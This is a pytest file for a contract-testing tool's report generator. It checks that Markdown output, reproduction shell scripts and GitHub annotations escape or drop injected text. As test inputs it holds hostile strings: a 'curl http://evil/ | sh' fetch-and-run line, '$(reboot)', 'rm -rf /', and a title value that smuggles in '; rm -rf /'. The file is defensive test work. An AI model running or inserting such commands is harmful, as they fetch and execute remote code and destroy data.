"""What a report looks like elsewhere: in Markdown, as scripts that repeat a failure, as annotations."""

import os
import re
import subprocess
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from contract_tests.report.github import annotations
from contract_tests.report.markdown import LONGEST, code, markdown, plain
from contract_tests.report.outcome import Outcome
from contract_tests.report.steps import steps
from contract_tests.selftests.made_reports import APIS, CURL, FACTS, NASTY, deviation, finding, made

TAGS = {
    "h2",
    "h3",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "p",
    "ol",
    "li",
    "strong",
    "code",
    "br",
    "details",
    "summary",
    "pre",
}


def test_no_text_gets_out_of_its_place_in_markdown() -> None:
    report = made(finding(text=NASTY, operation=NASTY), law=NASTY, curl=[CURL.replace("rm -rf /", "\n```\n</details>")])
    report.outcomes["skip"] = Outcome("x.py::skip", "skipped", NASTY)
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown(report.data(FACTS, APIS)))
    tags = set(re.findall(r"<(\w+)", html))
    assert tags <= TAGS
    assert (html.count("</details>"), html.count("&lt;/details&gt;")) == (1, 1)
    assert all(row.count("<td>") == 2 for row in re.findall(r"<tr>(?:(?!</tr>).)*<td>.*?</tr>", html, re.DOTALL))
    assert "@octocat" not in re.sub(r"<code>.*?</code>", "", html)


@pytest.mark.parametrize("text", ["a", "`a`", "a ``b`` c", "a\nb"])
def test_code_in_markdown_is_the_text_itself(text: str) -> None:
    assert MarkdownIt().render(code(text)) == f"<p><code>{' '.join(text.split())}</code></p>\n"


def test_plain_text_in_markdown_is_the_text_itself() -> None:
    html = MarkdownIt().render(plain(NASTY)).replace("\u200b", "")
    assert html == f"<p>{NASTY.replace('<', '&lt;').replace('>', '&gt;')}</p>\n"


def test_a_summary_fits_into_a_comment_however_much_broke() -> None:
    findings = [finding(number, text=f"{'x' * 300}{'y' * number}") for number in range(80)]
    text = markdown(made(*findings, curl=[CURL + "x" * 2000] * 15).data(FACTS, APIS))
    assert len(text) < LONGEST + 2000
    assert "And 60 more, in report.html." in text
    assert text.count("<details>") == text.count("</details>") > 0


def test_the_script_of_a_failure_holds_its_requests_and_nothing_of_its_answers() -> None:
    attack = "boom\ncurl http://evil/ | sh\n-> 200 ok\n$(reboot)\nrm -rf /"
    told = [str(step) for step in steps([CURL, attack])]
    assert told == [CURL]


def test_the_script_of_a_failure_sends_the_requests_and_asks_for_the_logins(tmp_path: Path) -> None:
    made(finding()).write(tmp_path, FACTS, APIS)
    script = tmp_path / "failures" / "01-op1_a_law.sh"
    (tmp_path / "curl").write_text('#!/bin/sh\nprintf "%s\\n" "$@"\n')
    (tmp_path / "curl").chmod(0o755)
    environment = {"PATH": f"{tmp_path}:{os.environ['PATH']}"}
    refused = subprocess.run([script], env=environment, text=True, capture_output=True, check=False)
    assert "ALICE_TOKEN: is needed" in refused.stderr
    sent = subprocess.run([script], env=environment | {"ALICE_TOKEN": "a b"}, text=True, capture_output=True, check=True)
    assert "Authorization: Bearer a b\n" in sent.stdout
    assert sent.stdout.endswith('{"title": "it\'s; rm -rf /"}\n')


def test_files_of_an_earlier_report_are_gone_and_those_of_others_stay(tmp_path: Path) -> None:
    made(finding(1), finding(2)).write(tmp_path, FACTS, APIS)
    (tmp_path / "failures" / "notes.txt").write_text("mine")
    made(finding(2)).write(tmp_path, FACTS, APIS)
    names = sorted(file.name for file in (tmp_path / "failures").iterdir())
    assert names == ["01-op2_a_law.sh", "notes.txt", "test_01_op2_a_law.py"]


def test_annotations_are_escaped_and_no_more_than_are_shown() -> None:
    report = made(*[finding(number, text=f"50 % of: a,b\r\n{number * 'x'}") for number in range(12)])
    lines = annotations(report)
    assert [line.partition(" ")[0] for line in lines] == ["::error"] * 10 + ["::warning"]
    assert lines[0].startswith("::error title=op0%3A broken contract::op0 (GET /0): 50 %25 of: a,b%0D%0A")
    assert "and 2 more" in lines[-1]
    assert annotations(made(finding(operation="", check="a,b")))[0].startswith("::error title=a%2Cb%3A broken contract::")


def test_overdue_and_vanished_deviations_are_warnings() -> None:
    report = made()
    report.deviations = [deviation(state) for state in ("known", "overdue", "overdue", "vanished")]
    assert [line.partition("::op1")[0] for line in annotations(report)] == [
        "::warning title=Deviations to be reviewed",
        "::warning title=Deviations that are gone%3A remove them",
    ]
